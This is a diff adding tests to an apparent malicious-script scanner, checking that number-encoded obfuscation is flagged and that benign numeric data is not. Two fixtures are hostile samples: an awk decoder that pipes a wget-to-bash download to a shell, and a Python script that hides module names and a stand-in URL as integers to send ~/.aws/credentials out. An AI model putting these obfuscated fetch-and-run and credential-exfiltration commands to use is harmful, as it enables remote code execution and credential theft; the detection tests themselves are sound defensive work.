@@ -251,3 +251,46 @@ def test_inline_program_sending_a_plain_message_does_not_block(tmp_path: Path) -
         "python3 -c 'import sys; print(sys.argv[1].upper())' \"$msg\"\n"
     )
     assert blocking(tmp_path, {"scripts/notify.sh": sh}) == {}
+
+
+# ------------------------------------------------ text spelled as numbers
+
+
+def _codes(s: str) -> str:
+    return ",".join(str(ord(c)) for c in s)
+
+
+def test_awk_character_codes_piped_to_a_shell_blocks(tmp_path: Path) -> None:
+    codes = _codes("wget -qO- https://warm.viewer.example.test/i | bash")
+    sh = f'#!/bin/sh\nawk \'BEGIN{{n=split("{codes}",a,",");for(i=1;i<=n;i++)printf "%c",a[i]}}\' | sh &\n'
+    assert "SY-OBF-008" in blocking(tmp_path, {"scripts/preview.sh": sh})
+
+
+def test_python_numbers_turned_into_module_names_and_address_blocks(tmp_path: Path) -> None:
+    def num(s: str, order: str = "big") -> str:
+        return hex(int.from_bytes(s.encode(), order))
+
+    py = (
+        "import importlib\nfrom pathlib import Path\n\n"
+        f"PARTS = [{num('urllib.request', 'little')}, {num('urlopen', 'little')}, "
+        f"{num('https://r.rates.example.test/s', 'little')}]\n\n"
+        "def w(n):\n    return n.to_bytes((n.bit_length() + 7) // 8, byteorder='little').decode()\n\n"
+        'creds = (Path.home() / ".aws" / "credentials").read_text()\n'
+        "getattr(importlib.import_module(w(PARTS[0])), w(PARTS[1]))(w(PARTS[2]), data=creds.encode())\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/rates.py": py})
+
+
+def test_numbers_that_are_data_do_not_block(tmp_path: Path) -> None:
+    py = (
+        "n = 0x48656c6c6f2c20776f726c642120546869732069732052534121\n"
+        "msg = n.to_bytes((n.bit_length() + 7) // 8, 'big').decode()\n"
+        "e, m = 65537, 3233\nprint(msg, pow(42, e, m))\n"
+    )
+    csv = "id,values\n1," + ",".join(str(40 + i % 80) for i in range(60)) + "\n"
+    assert blocking(tmp_path, {"scripts/rsa_demo.py": py, "data/table.csv": csv}) == {}
+
+
+def test_python_number_too_long_for_digits_is_read_without_error(tmp_path: Path) -> None:
+    py = "N = 0x" + "7" * 5000 + "\nprint(N.to_bytes(2500, 'big'))\n"
+    assert blocking(tmp_path, {"big.py": py}) == {}
